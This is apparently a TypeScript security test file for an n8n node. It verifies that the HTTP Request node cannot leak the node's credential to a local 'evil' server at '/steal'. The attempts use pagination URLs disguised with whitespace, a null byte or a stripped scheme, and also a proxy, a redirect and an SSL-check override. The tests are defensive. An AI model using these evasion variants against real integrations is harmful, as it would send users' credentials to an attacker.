/* eslint-disable @n8n/community-nodes/no-restricted-imports */
/** n8n's own HTTP Request node with the credential, in the hands of somebody who may use it, but not read it. */
import assert from 'node:assert/strict';
import type { IDataObject, INodeParameters } from 'n8n-workflow';
import { Guest } from '../security/servers';
import type { Simulator } from '../simulator/server';
import { selfSignedCertificate } from '../support/tls';
import type { Checks } from './checks';
import { itemsOf } from './editorApi';
import type { EditorApi, FinishedExecution, WorkflowJson } from './editorApi';
import { CREDENTIAL, CREDENTIAL_TYPE, credentialData } from './fixtures';
import { startOver } from './simulatorState';

const NODE = 'HTTP Request';

export class CredentialChecks {
	constructor(
		private readonly checks: Checks,
		private readonly simulator: Simulator,
		private readonly api: EditorApi,
	) {}

	async run(): Promise<void> {
		const evil = await Guest.start();
		try {
			await this.ownServer();
			await this.elsewhere(evil);
			await this.redirect(evil);
			await this.certificate();
		} finally {
			await evil.close();
		}
	}

	private get users(): string {
		return `${this.simulator.apiUrl}/users`;
	}

	/** Send a request with the node, as somebody sets it in the editor. */
	private async send(
		url: string,
		options: INodeParameters = {},
		credential = CREDENTIAL,
	): Promise<FinishedExecution> {
		const workflow: WorkflowJson = {
			id: '',
			name: 'Somebody else’s request',
			nodes: [
				{
					id: 'start',
					name: 'Start',
					type: 'n8n-nodes-base.manualTrigger',
					typeVersion: 1,
					position: [0, 0],
					parameters: {},
				},
				{
					id: 'request',
					name: NODE,
					type: 'n8n-nodes-base.httpRequest',
					typeVersion: 4.2,
					position: [200, 0],
					parameters: {
						method: 'GET',
						url,
						authentication: 'predefinedCredentialType',
						nodeCredentialType: CREDENTIAL_TYPE,
						options,
					},
					credentials: { [CREDENTIAL_TYPE]: credential },
				},
			],
			connections: { Start: { main: [[{ node: NODE, type: 'main', index: 0 }]] } },
		};
		return await this.api.runWorkflow(workflow);
	}

	private refusedWith({ status, data }: FinishedExecution, says: RegExp): void {
		assert.equal(status, 'error');
		const error = data.resultData.error as unknown as IDataObject;
		assert.match(`${String(error.message)} ${String(error.description)}`, says);
	}

	private async ownServer(): Promise<void> {
		await this.checks.check('HTTP Request may use the credential for its own server', async () => {
			startOver(this.simulator);
			const { status, data } = await this.send(this.users);
			assert.equal(status, 'success', JSON.stringify(data.resultData.error));
			assert.ok(Array.isArray(itemsOf(data, NODE)[0].json.users), 'a list of participants');
			assert.equal(this.simulator.requests.at(-1)?.headers.authorization, 'Basic valid');
		});
	}

	private async elsewhere(evil: Guest): Promise<void> {
		const own = /only be used with its own Base URL/;
		const target = `${evil.url}/steal`;
		const nextPage = (nextURL: string): INodeParameters => ({
			pagination: {
				pagination: {
					paginationMode: 'responseContainsNextURL',
					nextURL: `={{ $pageCount === 0 ? ${JSON.stringify(this.users)} : ${JSON.stringify(nextURL)} }}`,
					paginationCompleteWhen: 'other',
					completeExpression: '={{ $pageCount > 1 }}',
					limitPagesFetched: true,
					maxRequests: 2,
					requestInterval: 0,
				},
			},
		});
		const attempts: Array<[name: string, url: string, options: INodeParameters, says: RegExp]> = [
			['another URL', target, {}, own],
			...[target, ` ${target}`, `\n${target}`, `\u0000${target}`, target.replace('//', '')].map(
				(next): [string, string, INodeParameters, RegExp] => [
					`the next page at ${JSON.stringify(next.replace(/127.*/, '…'))}`,
					this.users,
					nextPage(next),
					own,
				],
			),
			['a proxy', this.users, { proxy: evil.url }, /proxy that is set in the node/],
		];
		for (const [name, url, options, says] of attempts) {
			await this.checks.check(`HTTP Request can't send the credential to ${name}`, async () => {
				startOver(this.simulator);
				evil.forget();
				this.refusedWith(await this.send(url, options), says);
				assert.deepEqual(evil.visits, []);
			});
		}
	}

	private async redirect(evil: Guest): Promise<void> {
		await this.checks.check('HTTP Request follows no redirect with the credential', async () => {
			startOver(this.simulator);
			evil.forget();
			this.simulator.faults.add({
				match: { path: '/users$' },
				then: { kind: 'redirect', location: `${evil.url}/steal` },
			});
			const redirect = { redirect: { followRedirects: true, maxRedirects: 5 } };
			await this.send(this.users, { redirect });
			assert.equal(this.simulator.faults.fired, 1, 'redirects');
			assert.deepEqual(evil.visits, []);
		});
	}

	private async certificate(): Promise<void> {
		const certificate = selfSignedCertificate();
		if (certificate === undefined) {
			this.checks.note('No openssl: nothing to make a certificate with');
			return;
		}
		const masked = await Guest.start(certificate);
		try {
			await this.checks.check(
				"HTTP Request can't ignore SSL issues for the credential",
				async () => {
					const create = async (name: string, ignoreSslIssues: boolean) => {
						const data = {
							...credentialData(this.simulator),
							baseUrl: masked.url,
							ignoreSslIssues,
						};
						return { name, id: await this.api.createCredential(name, CREDENTIAL_TYPE, data) };
					};
					const strict = await create('Strict', false);
					const { status } = await this.send(
						`${masked.url}/users`,
						{ allowUnauthorizedCerts: true },
						strict,
					);
					assert.equal(status, 'error');
					assert.deepEqual(masked.visits, []);

					// Its own switch counts, whatever the node says.
					const lenient = await create('Lenient', true);
					const answer = await this.send(`${masked.url}/users`, {}, lenient);
					assert.equal(answer.status, 'success', JSON.stringify(answer.data.resultData.error));
					assert.equal(masked.authorizations.length, 1);
				},
			);
		} finally {
			await masked.close();
		}
	}
}
